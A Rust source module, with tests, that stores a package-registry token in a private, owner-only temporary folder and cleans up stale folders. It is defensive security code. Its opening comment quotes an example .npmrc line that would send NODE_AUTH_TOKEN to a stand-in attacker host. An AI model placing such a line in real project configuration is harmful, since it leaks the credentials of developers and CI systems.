//! The private folder of one command: where a token stands while a package manager reads it.
//!
//! The token stands literally in a 0600 file in a 0700 folder. In an environment variable it would leak: a
//! project's `.npmrc` may say `//evil.example/:_authToken=${NODE_AUTH_TOKEN}`, and npm 11 and yarn 1 send it.

use std::{
    fs::{self, File},
    io::{self, Write as _},
    path::{Path, PathBuf},
    time::{Duration, SystemTime},
};

use protected_model::environment::Environment;

/// How the folders are called; [`sweep`] touches nothing else.
const PREFIX: &str = "protected-registry-";

/// How old a folder must be to count as left behind: no token in it is valid for longer than fifteen minutes, and
/// no command runs for an hour.
pub const STALE: Duration = Duration::from_secs(60 * 60);

/// A folder that only its owner can enter, removed when this value is dropped.
///
/// SIGKILL leaves it; the next command's [`sweep`] removes it.
#[derive(Debug)]
pub struct Temporary(PathBuf);

/// The private folder cannot be used.
#[derive(Debug, thiserror::Error)]
#[error("{doing} `{}`", path.display())]
pub struct TemporaryError {
    doing: &'static str,
    path: PathBuf,
    #[source]
    source: io::Error,
}

impl Temporary {
    /// Makes a new folder below `parent`.
    ///
    /// # Errors
    /// When it cannot be made.
    pub fn new(parent: &Path) -> Result<Self, TemporaryError> {
        let mut builder = tempfile::Builder::new();
        builder.prefix(PREFIX).rand_bytes(16).disable_cleanup(true);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt as _;
            builder.permissions(fs::Permissions::from_mode(0o700));
        }
        let folder = builder.tempdir_in(parent).map_err(|source| TemporaryError {
            doing: "making a private folder in",
            path: parent.to_owned(),
            source,
        })?;
        Ok(Self(folder.keep()))
    }

    /// Returns the folder.
    pub fn path(&self) -> &Path {
        &self.0
    }

    /// Makes a folder in it.
    ///
    /// # Errors
    /// When it cannot be made.
    pub fn folder(&self, name: &str) -> Result<PathBuf, TemporaryError> {
        let path = self.0.join(name);
        match fs::create_dir(&path) {
            Err(source) if source.kind() != io::ErrorKind::AlreadyExists => {
                Err(TemporaryError { doing: "making", path, source })
            }
            _ => Ok(path),
        }
    }

    /// Writes a file that only its owner can read, at `name` below the folder.
    ///
    /// # Errors
    /// When it exists already, even as a link, or cannot be written.
    pub fn write(&self, name: &str, content: &str) -> Result<PathBuf, TemporaryError> {
        let path = self.0.join(name);
        let write = || -> io::Result<()> {
            let mut options = File::options();
            options.write(true).create_new(true); // O_EXCL
            #[cfg(unix)]
            {
                use std::os::unix::fs::OpenOptionsExt as _;
                options.mode(0o600).custom_flags(rustix::fs::OFlags::NOFOLLOW.bits().cast_signed());
            }
            options.open(&path)?.write_all(content.as_bytes())
        };
        write().map_err(|source| TemporaryError { doing: "writing", path: path.clone(), source })?;
        Ok(path)
    }

    /// Removes the folder and what is in it. May be called from another thread, and more than once.
    ///
    /// # Errors
    /// When something of it is left.
    pub fn wipe(&self) -> Result<(), TemporaryError> {
        // A package manager that is being killed may still write: what it adds meanwhile is removed with the rest.
        let mut tries = 0;
        loop {
            match fs::remove_dir_all(&self.0) {
                Err(source) if source.kind() == io::ErrorKind::NotFound => return Ok(()),
                Err(_) if tries < 5 => tries += 1,
                Err(source) => {
                    return Err(TemporaryError { doing: "removing", path: self.0.clone(), source });
                }
                Ok(()) => return Ok(()),
            }
        }
    }
}

impl Drop for Temporary {
    fn drop(&mut self) {
        if let Err(error) = self.wipe() {
            tracing::warn!(%error, "a private folder was left behind");
        }
    }
}

/// Returns the folder for temporary files of the CI job, else `system`.
///
/// CI platforms empty theirs after the job: what SIGKILL leaves does not stay on the machine.
pub fn parent(environment: &Environment, system: &Path) -> PathBuf {
    let gitlab =
        environment.get("CI_PROJECT_DIR").map(|folder| format!("{}.tmp", folder.trim_end_matches('/')));
    [environment.get("RUNNER_TEMP"), gitlab.as_deref(), environment.get("WORKSPACE_TMP")]
        .into_iter()
        .flatten()
        .map(PathBuf::from)
        .find(|folder| folder.is_absolute() && folder.is_dir())
        .unwrap_or_else(|| system.to_owned())
}

/// Removes folders below `parent` that killed commands left more than `age` before `now`, and says how many.
///
/// Takes only folders of our name that are no links and belong to this user: in a shared `/tmp`, anybody can make
/// one of that name.
pub fn sweep(parent: &Path, age: Duration, now: SystemTime) -> usize {
    let Ok(entries) = fs::read_dir(parent) else { return 0 };
    let stale = entries.flatten().filter(|entry| {
        let ours = entry.file_name().to_str().is_some_and(|name| name.starts_with(PREFIX));
        let Ok(metadata) = fs::symlink_metadata(entry.path()) else { return false };
        let old =
            metadata.modified().is_ok_and(|time| now.duration_since(time).is_ok_and(|since| since > age));
        ours && old && metadata.is_dir() && is_mine(&metadata)
    });
    stale.filter(|entry| fs::remove_dir_all(entry.path()).is_ok()).count()
}

#[cfg(unix)]
fn is_mine(metadata: &fs::Metadata) -> bool {
    use std::os::unix::fs::MetadataExt as _;
    metadata.uid() == rustix::process::geteuid().as_raw()
}

#[cfg(not(unix))]
fn is_mine(_: &fs::Metadata) -> bool {
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(folder: &Path) -> Vec<String> {
        let entries = fs::read_dir(folder).expect("folder").flatten();
        entries.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect()
    }

    #[test]
    #[cfg(unix)]
    fn is_private_and_gone_when_dropped() {
        use std::os::unix::fs::PermissionsExt as _;

        let parent = tempfile::tempdir().expect("folder");
        let temporary = Temporary::new(parent.path()).expect("temporary");
        let file = temporary.write("npmrc", "secret").expect("file");
        let mode = |path: &Path| fs::metadata(path).expect("metadata").permissions().mode() & 0o777;
        assert_eq!((mode(temporary.path()), mode(&file)), (0o700, 0o600));
        drop(temporary);
        assert_eq!(names(parent.path()), Vec::<String>::new());
    }

    #[test]
    #[cfg(unix)]
    fn never_writes_through_a_link() {
        let parent = tempfile::tempdir().expect("folder");
        let temporary = Temporary::new(parent.path()).expect("temporary");
        let outside = parent.path().join("outside");
        std::os::unix::fs::symlink(&outside, temporary.path().join("npmrc")).expect("link");
        assert!(temporary.write("npmrc", "secret").is_err());
        assert!(!outside.exists());
    }

    #[test]
    fn a_panic_leaves_nothing() {
        let parent = tempfile::tempdir().expect("folder");
        let folder = parent.path().to_owned();
        let thread = std::thread::spawn(move || {
            let temporary = Temporary::new(&folder).expect("temporary");
            temporary.write("npmrc", "secret").expect("file");
            panic!("on purpose");
        });
        assert!(thread.join().is_err());
        assert_eq!(names(parent.path()), Vec::<String>::new());
    }

    #[test]
    fn wiping_from_elsewhere_is_enough_and_may_be_repeated() {
        let parent = tempfile::tempdir().expect("folder");
        let temporary = std::sync::Arc::new(Temporary::new(parent.path()).expect("temporary"));
        temporary.write("npmrc", "secret").expect("file");
        let other = std::sync::Arc::clone(&temporary);
        std::thread::spawn(move || other.wipe().expect("wipe")).join().expect("thread");
        assert_eq!(names(parent.path()), Vec::<String>::new());
        temporary.wipe().expect("again");
    }

    #[test]
    fn sweeps_only_what_is_old_and_ours() {
        let parent = tempfile::tempdir().expect("folder");
        let left = Temporary::new(parent.path()).expect("temporary");
        left.write("npmrc", "secret").expect("file");
        fs::create_dir(parent.path().join("somebody-elses")).expect("folder");
        let outside = tempfile::tempdir().expect("folder");
        fs::write(outside.path().join("kept"), "").expect("file");
        #[cfg(unix)]
        std::os::unix::fs::symlink(outside.path(), parent.path().join("protected-registry-link"))
            .expect("link");
        assert_eq!(sweep(parent.path(), STALE, SystemTime::now()), 0);
        assert_eq!(sweep(parent.path(), STALE, SystemTime::now() + 2 * STALE), 1);
        assert!(!left.path().exists());
        assert!(outside.path().join("kept").exists());
        assert!(names(parent.path()).contains(&"somebody-elses".to_owned()));
    }

    #[test]
    fn prefers_the_jobs_own_folder() {
        let job = tempfile::tempdir().expect("folder");
        let path = job.path().to_str().expect("text");
        let system = Path::new("/system");
        let of = |pairs: &[(&str, &str)]| parent(&pairs.iter().copied().collect(), system);
        assert_eq!(of(&[("RUNNER_TEMP", path)]), job.path());
        assert_eq!(of(&[("WORKSPACE_TMP", path)]), job.path());
        fs::create_dir(job.path().join("project.tmp")).expect("folder");
        assert_eq!(of(&[("CI_PROJECT_DIR", &format!("{path}/project"))]), job.path().join("project.tmp"));
        assert_eq!(of(&[("RUNNER_TEMP", "relative"), ("WORKSPACE_TMP", "/is/not/there")]), system);
    }
}
